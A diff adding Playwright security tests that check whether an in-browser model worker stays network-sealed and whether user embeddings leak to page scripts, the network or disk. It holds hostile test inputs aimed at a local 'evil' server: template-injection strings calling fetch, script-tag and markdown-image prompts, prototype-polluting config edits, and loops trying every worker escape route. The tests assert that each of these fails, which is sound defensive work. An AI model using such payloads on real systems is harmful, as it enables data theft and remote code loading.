@@ -1,0 +1,367 @@
+/**
+ * Attacks on the seal, in real Chromium: script inside the sealed worker tries every way out, a hostile page script reads every
+ * message, a hostile model folder is loaded, and the network is watched while a person uses the demo.
+ */
+import { createHash } from 'node:crypto';
+import { readdirSync, readFileSync, statSync } from 'node:fs';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import {
+  type BrowserContext,
+  chromium,
+  expect,
+  type Page,
+  type Request,
+  test,
+  type Worker,
+} from '@playwright/test';
+import type { Personalizer } from '../src/index.ts';
+import { type FaultServer, startFaultServer } from '../src/testing/fault-server.ts';
+import { GLOBAL_EXITS, METHOD_EXITS, NAVIGATOR_EXITS } from '../src/worker/exits.ts';
+import { launchOptions } from './chromium.ts';
+import type { Harness } from './harness/harness.ts';
+import { HARMLESS, HARMLESS_PATTERNS } from './known-globals.ts';
+import { DEMO_URL, HARNESS_URL } from './ports.ts';
+
+declare const harness: Harness;
+
+const MODEL = fileURLToPath(new URL('../public/models/e2p-tiny', import.meta.url));
+/** Numbers that occur nowhere else. */
+const EMBEDDING = Array.from({ length: 32 }, (_, i) => Math.fround(Math.sin(i * 12.9898 + 4.1414) * 1.37));
+const PROMPT = 'Story: pocket drone, Quillon, Rook, calmer nerves';
+
+let evil: FaultServer;
+test.beforeAll(async () => {
+  evil = await startFaultServer();
+  evil.files.set('/evil.js', Buffer.from('self.stolen = 1'));
+});
+test.afterAll(() => evil.close());
+test.beforeEach(() => evil.reset());
+
+const engineOf = (page: Page): Worker => page.workers().find((w) => w.url().includes('engine-worker'))!;
+
+async function openDemo(page: Page, device = 'wasm'): Promise<Worker> {
+  await page.goto(`${DEMO_URL}/?device=${device}&maxTokens=12`);
+  await expect(page.getByTestId('privacy')).toBeVisible();
+  return engineOf(page);
+}
+
+/** A personalizer with a user on the harness page, which is served without any policy. */
+async function openHarness(page: Page, model = `${DEMO_URL}/models/e2p-tiny`): Promise<void> {
+  await page.goto(HARNESS_URL);
+  await page.waitForFunction(() => 'harness' in globalThis);
+  await page.evaluate(
+    async ([url, values]) => {
+      const personalizer = await harness.Personalizer.create({
+        model: url,
+        projector: `${url}/projector.safetensors`,
+        device: 'wasm',
+      });
+      await personalizer.user.set({ space: personalizer.space!.id, values: Float32Array.from(values) });
+      Object.assign(globalThis, { personalizer });
+    },
+    [model, EMBEDDING] as const,
+  );
+}
+
+const writeText = (page: Page) =>
+  page.evaluate(async (prompt) => {
+    const session = await (
+      globalThis as unknown as { personalizer: Personalizer }
+    ).personalizer.createSession();
+    return session.prompt(prompt, { maxTokens: 16 });
+  }, PROMPT);
+
+/** Tries each exit from inside the worker; what it got out, or the refusal. */
+const tryExits = (worker: Worker) =>
+  worker.evaluate(
+    async ([url, globals, navigators, methods]) => {
+      const scope = globalThis as unknown as Record<string, unknown>;
+      const outcome: Record<string, string> = {};
+      const attempt = async (name: string, work: () => unknown) => {
+        try {
+          await work();
+          outcome[name] = 'OUT';
+        } catch (error) {
+          outcome[name] = String((error as { code?: string }).code ?? (error as Error).name);
+        }
+      };
+      for (const name of globals) {
+        if (!(name in scope)) continue;
+        await attempt(name, () => (scope[name] as (address: string) => unknown)(url));
+        await attempt(`new ${name}`, () => new (scope[name] as new (address: string) => unknown)(url));
+      }
+      for (const name of navigators) {
+        if (name in navigator) await attempt(`navigator.${name}`, () => Reflect.get(navigator, name));
+      }
+      for (const [className, names] of Object.entries(methods)) {
+        // A class that is shut itself may still be reached through an object; here by its own prototype.
+        const descriptor = Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, className);
+        const prototype = (descriptor?.value ?? scope[className])?.prototype as object | undefined;
+        for (const name of names) {
+          if (prototype && name in prototype)
+            await attempt(`${className}.${name}`, () =>
+              (Reflect.get(prototype, name) as () => unknown).call({}),
+            );
+        }
+      }
+      await attempt('import()', () => import(/* @vite-ignore */ url));
+      await attempt(
+        'import() of the own origin',
+        () => import(/* @vite-ignore */ `${location.origin}/sw.js?leak=1`),
+      );
+      await attempt('import() of data', () => import(/* @vite-ignore */ 'data:text/javascript,'.slice(0)));
+      return outcome;
+    },
+    [
+      `${evil.url}/evil.js`,
+      GLOBAL_EXITS as readonly string[],
+      NAVIGATOR_EXITS as readonly string[],
+      METHOD_EXITS,
+    ] as const,
+  );
+
+test('under the policy every way out of the sealed worker fails, and nothing arrives', async ({ page }) => {
+  const worker = await openDemo(page);
+  await expect(page.getByTestId('privacy')).toContainText('none is open');
+  const requests = watchNetwork(page.context());
+  const outcome = await tryExits(worker);
+  expect(Object.keys(outcome).length).toBeGreaterThan(40);
+  expect(Object.entries(outcome).filter(([, result]) => result === 'OUT')).toEqual([]);
+  // The refusal is ours, not an accident; imports are refused by the policy.
+  const others = Object.entries(outcome).filter(([, result]) => result !== 'sealed');
+  expect(others.map(([name]) => name).sort()).toEqual([
+    'import()',
+    'import() of data',
+    'import() of the own origin',
+  ]);
+  await page.waitForTimeout(500);
+  expect(evil.log).toEqual([]);
+  expect(requests()).toEqual([]);
+});
+
+test('without a policy the report says that import() is open, and it is', async ({ page }) => {
+  await openHarness(page);
+  const privacy = await page.evaluate(
+    () => (globalThis as unknown as { personalizer: Personalizer }).personalizer.privacy,
+  );
+  expect(privacy).toMatchObject({ phase: 'sealed', policy: undefined });
+  expect(privacy.exits.filter(({ state }) => state === 'open')).toEqual([
+    { name: 'import()', state: 'open', by: 'nothing' },
+  ]);
+  expect(privacy.notSealed.join()).toContain('served without a Content-Security-Policy');
+  const outcome = await tryExits(engineOf(page));
+  expect(
+    Object.keys(outcome).filter((name) => outcome[name] === 'OUT' && !name.startsWith('import()')),
+  ).toEqual([]);
+  // So a server would hear of it: the tests above would notice a leak.
+  expect(evil.log).toEqual(['GET /evil.js']);
+});
+
+test('every name in the worker is shut, or somebody found it harmless', async ({ page }) => {
+  test.skip(!process.env.CI, 'newer browsers have names that nobody looked at yet; checked in CI');
+  const worker = await openDemo(page);
+  const names = await worker.evaluate(() => {
+    const found = new Set<string>();
+    for (let at: object = globalThis; at !== Object.prototype; at = Object.getPrototypeOf(at)) {
+      for (const name of Object.getOwnPropertyNames(at)) found.add(name);
+    }
+    return [...found];
+  });
+  const isKnown = (name: string) =>
+    (GLOBAL_EXITS as readonly string[]).includes(name) ||
+    HARMLESS.has(name) ||
+    name in METHOD_EXITS ||
+    HARMLESS_PATTERNS.some((pattern) => pattern.test(name));
+  expect(names.filter((name) => !isKnown(name))).toEqual([]);
+});
+
+test('a page script that holds the worker and asks for everything never gets the embedding', async ({
+  page,
+}) => {
+  await page.addInitScript(() => {
+    const said: unknown[] = [];
+    const Native = globalThis.Worker;
+    const workers: InstanceType<typeof Native>[] = [];
+    globalThis.Worker = class extends Native {
+      constructor(...args: ConstructorParameters<typeof Native>) {
+        super(...args);
+        workers.push(this);
+        this.addEventListener('message', ({ data }) => said.push(data));
+      }
+    };
+    Object.assign(globalThis, { said, workers });
+  });
+  await openHarness(page);
+  const text = await writeText(page);
+  expect(text.length).toBeGreaterThan(0);
+  const said = await page.evaluate(async () => {
+    const { workers, said } = globalThis as unknown as {
+      workers: { postMessage(message: unknown): void }[];
+      said: unknown[];
+    };
+    const ops = [
+      'create',
+      'setUser',
+      'clearUser',
+      'createSession',
+      'cloneSession',
+      'destroySession',
+      'generate',
+    ];
+    const guesses = [undefined, null, 1, {}, { session: 1, input: 'embedding', options: {} }];
+    let id = 1e6;
+    for (const op of [
+      ...ops.filter((o) => o !== 'clearUser'),
+      'getUser',
+      'user',
+      'eval',
+      '__proto__',
+      'constructor',
+    ]) {
+      for (const params of guesses) workers[0]!.postMessage({ id: id++, op, params });
+    }
+    await new Promise((resolve) => setTimeout(resolve, 3000));
+    const numbers: number[] = [];
+    const seen = new Set<unknown>();
+    const collect = (value: unknown): void => {
+      if (typeof value === 'number') numbers.push(Math.fround(value));
+      else if (typeof value === 'string')
+        numbers.push(...(value.match(/-?\d+\.\d+/g) ?? []).map((n) => Math.fround(Number(n))));
+      else if (ArrayBuffer.isView(value)) {
+        numbers.push(...new Float32Array(value.buffer, 0, value.buffer.byteLength >> 2));
+      } else if (value !== null && typeof value === 'object' && !seen.has(value)) {
+        seen.add(value);
+        for (const inner of Object.values(value)) collect(inner);
+      }
+    };
+    collect(said);
+    return { messages: said.length, numbers };
+  });
+  expect(said.messages).toBeGreaterThan(20);
+  expect(said.numbers.length).toBeGreaterThan(10);
+  expect(EMBEDDING.filter((value) => said.numbers.includes(value))).toEqual([]);
+});
+
+test('a hostile model folder, projector and prompt cause no request of their own', async ({ page }) => {
+  const url = `${evil.url}/evil.js`;
+  const script = `{{ ''.constructor.constructor('return fetch("${url}")')() }}{{ self.fetch("${url}") }}`;
+  for (const path of readdirSync(MODEL, { recursive: true, encoding: 'utf8' })) {
+    if (statSync(join(MODEL, path)).isFile() && !path.endsWith('manifest.json'))
+      evil.files.set(`/m/${path}`, readFileSync(join(MODEL, path)));
+  }
+  const edit = (path: string, change: (json: Record<string, unknown>) => object) =>
+    evil.files.set(
+      `/m/${path}`,
+      Buffer.from(JSON.stringify(change(JSON.parse(readFileSync(join(MODEL, path), 'utf8'))))),
+    );
+  edit('config.json', (json) => ({
+    ...json,
+    auto_map: { AutoModel: url },
+    _name_or_path: url,
+    __proto__: { url },
+  }));
+  edit('tokenizer_config.json', (json) => ({ ...json, tokenizer_file: url, vocab_file: url }));
+  const requests = watchNetwork(page.context());
+  await openHarness(page, `${evil.url}/m`);
+  await page.evaluate(async (hostile) => {
+    const { personalizer } = globalThis as unknown as { personalizer: Personalizer };
+    const session = await personalizer.createSession();
+    await session.prompt(hostile, { maxTokens: 4 });
+  }, `${script} <script src="${url}"></script> ![x](${url})`);
+  // The same code in the template itself is refused or harmless.
+  edit('tokenizer_config.json', (json) => ({ ...json, chat_template: script + String(json.chat_template) }));
+  await openHarness(page, `${evil.url}/m`)
+    .then(() => writeText(page))
+    .catch(() => undefined);
+  expect(evil.log.filter((line) => line.includes('evil'))).toEqual([]);
+  expect(evil.log.some((line) => line.includes('/m/onnx/model_q4.onnx'))).toBe(true);
+  expect(requests().filter((asked) => asked.includes('evil.js'))).toEqual([]);
+});
+
+test('a lost GPU in the sealed worker: the text goes on, without a request', async ({ page }) => {
+  page.on('worker', (worker) => {
+    void worker.evaluate(() => {
+      const request = GPUAdapter.prototype.requestDevice;
+      GPUAdapter.prototype.requestDevice = async function (...args) {
+        const device = await request.apply(this, args);
+        Object.assign(globalThis, { device });
+        return device;
+      };
+    });
+  });
+  const worker = await openDemo(page, 'auto');
+  await expect(page.getByTestId('status')).toContainText('Ready on WebGPU');
+  const requests = watchNetwork(page.context());
+  await page.getByRole('button', { name: 'Write' }).click();
+  await worker.evaluate(() => (globalThis as unknown as { device: GPUDevice }).device.destroy());
+  await expect(page.getByTestId('status')).toContainText('Ready on WebAssembly', { timeout: 60_000 });
+  await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/);
+  expect(requests()).toEqual([]);
+});
+
+const MINUTES = Number(process.env.E2P_PRIVACY_MINUTES ?? 1);
+test(`${MINUTES} minutes of use after the seal: the network log is empty`, async ({ page, context }) => {
+  test.setTimeout(MINUTES * 60_000 + 120_000);
+  const before = watchNetwork(context);
+  await openDemo(page);
+  // The log sees what the worker fetches: the weights came through it.
+  expect(before().some((url) => url.endsWith('model_q4.onnx'))).toBe(true);
+  // The service worker takes its copies of the page's own files once.
+  await page.waitForTimeout(2000);
+  const requests = watchNetwork(context);
+  const readers = page.locator('#readers input');
+  const until = Date.now() + MINUTES * 60_000;
+  for (let n = 0; Date.now() < until; n++) {
+    await readers.nth(n % 8).check();
+    await page.getByRole('button', { name: 'Write' }).click();
+    await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/);
+    await expect(page.getByRole('button', { name: 'Stop' })).toBeDisabled();
+  }
+  expect(requests()).toEqual([]);
+});
+
+test('nothing of a session is in the profile on disk: not the embedding, not the prompt, not the text', async ({
+  browserName: _,
+}, info) => {
+  const profile = info.outputPath('profile');
+  const context = await chromium.launchPersistentContext(profile, launchOptions());
+  const page = await context.newPage();
+  await openHarness(page);
+  const text = await writeText(page);
+  await context.close();
+  const floats = Buffer.from(Float32Array.from(EMBEDDING).buffer);
+  const secrets: Record<string, Buffer> = {
+    'the embedding, as bytes': floats.subarray(0, 32),
+    'the embedding, in base64': Buffer.from(floats.toString('base64').slice(0, 40)),
+    'the embedding, as numbers': Buffer.from(String(EMBEDDING[3]).slice(0, 12)),
+    'the prompt': Buffer.from(PROMPT),
+    'the prompt, in UTF-16': Buffer.from(PROMPT, 'utf16le'),
+    'the text': Buffer.from(text.trim().slice(0, 40)),
+    'the text, in UTF-16': Buffer.from(text.trim().slice(0, 40), 'utf16le'),
+  };
+  const files = readdirSync(profile, { recursive: true, encoding: 'utf8' })
+    .map((path) => join(profile, path))
+    .filter((path) => statSync(path, { throwIfNoEntry: false })?.isFile());
+  const found: string[] = [];
+  let weights = false;
+  const chunk = createHash('sha256')
+    .update(readFileSync(join(MODEL, 'onnx/model_q4.onnx')))
+    .digest('hex');
+  for (const path of files) {
+    const bytes = readFileSync(path);
+    weights ||= createHash('sha256').update(bytes).digest('hex') === chunk;
+    for (const [what, secret] of Object.entries(secrets))
+      if (bytes.includes(secret)) found.push(`${what}: ${path}`);
+  }
+  // The weights are there, so this is where things are kept.
+  expect(weights).toBe(true);
+  expect(found).toEqual([]);
+});
+
+/** Addresses that were asked for from now on, by the page, its workers and service workers; without what a policy stopped. */
+function watchNetwork(context: BrowserContext): () => string[] {
+  const asked: Request[] = [];
+  context.on('request', (request) => asked.push(request));
+  return () => asked.filter((r) => !/csp/i.test(r.failure()?.errorText ?? '')).map((r) => r.url());
+}
